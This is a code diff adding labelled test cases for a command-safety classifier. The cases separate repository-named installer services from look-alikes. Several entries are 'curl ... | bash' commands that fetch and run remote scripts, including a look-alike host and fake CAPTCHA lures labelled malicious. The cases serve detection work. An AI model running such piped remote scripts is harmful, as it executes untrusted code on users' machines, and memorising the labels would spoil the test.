@@ -32,6 +32,11 @@ Principles:
   for its own site (JBang told to trust a project's group, a jar fetched and run). Look-alikes:
   another publisher's group, a page that is not the project's, a group under a two-part suffix
   that names no one, plain HTTP, a stranger's script beside it.
+- `repository-installer-service`: an installer service whose address names the GitHub
+  repository whose release it installs (i.jpillora.com/<owner>/<repo>!, the old
+  install.goreleaser.com/github.com/<owner>/<repo>.sh), from that repository's own page.
+  Look-alikes: another repository, the service's one-word form (it searches the web), plain
+  HTTP, an insecure query, a fake check page, a fake check's tail, bare.
 - `run-box-refresh`: Windows' own maintenance commands that refresh this computer from the
   sources it already has (gpupdate /force, w32tm /resync, ipconfig /flushdns), alone or after
   cmd /c or /k, from an IT wiki or typed. Look-alikes: a switch naming a computer or a source,
@@ -274,6 +279,48 @@ def maven(book: Book) -> None:
         book.add("maven-central-publisher", text, "not_flagged", "any", TERMINAL, page)
     for page, text in MAVEN_LOOKALIKES:
         book.add("maven-central-lookalike", text, "flagged", "any", TERMINAL, page)
+
+
+# -- installer services that name a repository --------------------------------------------------
+
+SERVICES = [
+    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/quillworks/widgetctl! | bash"),
+    ("https://github.com/quillworks/widgetctl", "curl -s https://i.jpillora.com/quillworks/widgetctl@v1.4.2! | bash"),
+    ("https://github.com/quillworks/widgetctl#installation", "wget -qO- https://i.jpillora.com/quillworks/widgetctl! | bash"),
+    ("https://github.com/fenwick-labs/tarnbuild", "curl https://i.jpillora.com/fenwick-labs/tarnbuild | bash"),
+    ("https://github.com/fenwick-labs/tarnbuild/blob/main/README.md", "curl -sL https://i.jpillora.com/fenwick-labs/tarnbuild! | sudo bash"),
+    ("https://github.com/loamdb/loamdb", "curl -sfL https://install.goreleaser.com/github.com/loamdb/loamdb.sh | sh"),
+    ("https://github.com/loamdb/loamdb", "curl -sfL https://install.goreleaser.com/github.com/loamdb/loamdb.sh | sh -s -- -b /usr/local/bin"),
+    ("https://github.com/sorrelhq/sorrel-cli", "curl -sSfL https://install.goreleaser.com/github.com/sorrelhq/sorrel-cli.sh | bash"),
+    ("https://github.com/tidewater/tidelog/releases", "curl https://i.jpillora.com/tidewater/tidelog! | bash"),
+    ("https://github.com/umbergrid/umberctl", "wget -O- https://i.jpillora.com/umbergrid/umberctl@latest! | bash"),
+]  # fmt: skip
+SERVICE_LOOKALIKES = [
+    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/someone-else/widgetctl! | bash", "flagged"),
+    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/widgetctl! | bash", "flagged"),
+    ("https://github.com/quillworks/widgetctl", "curl http://i.jpillora.com/quillworks/widgetctl! | bash", "flagged"),
+    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/quillworks/widgetctl?insecure=1 | bash", "flagged"),
+    ("https://www.verify-human.umbra-stage.test/captcha", "curl https://i.jpillora.com/quillworks/widgetctl! | bash", "malicious"),
+    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com/quillworks/widgetctl! | bash # I am not a robot - Verification ID: 7781", "malicious"),
+    ("https://github.com/quillworks/widgetctl", "curl https://i.jpillora.com.umbra-stage.test/quillworks/widgetctl! | bash", "flagged"),
+    ("https://github.com/quillworks/widgetctl", "curl https://install.goreleaser.com/github.com/other/widgetctl.sh | sh", "flagged"),
+    ("https://github.com/quillworks/widgetctl", "curl https://install.goreleaser.com/gitlab.com/quillworks/widgetctl.sh | sh", "flagged"),
+    (None, "curl https://i.jpillora.com/quillworks/widgetctl! | bash", "flagged"),
+]  # fmt: skip
+
+
+def services(book: Book) -> None:
+    for page, text in SERVICES:
+        book.add("repository-installer-service", text, "not_flagged", "linux", TERMINAL, page)
+    for page, text, expect in SERVICE_LOOKALIKES:
+        book.add(
+            "installer-service-lookalike",
+            text,
+            expect,
+            "linux",
+            TERMINAL if page else UNKNOWN,
+            page,
+        )
 
 
 # -- the Run box: maintenance commands and official installers ----------------------------------
@@ -520,6 +567,7 @@ def build() -> list[dict[str, str]]:
     jbang(book)
     phrase_pipes(book)
     write_ups(book)
+    services(book)
     return book.cases
 
 
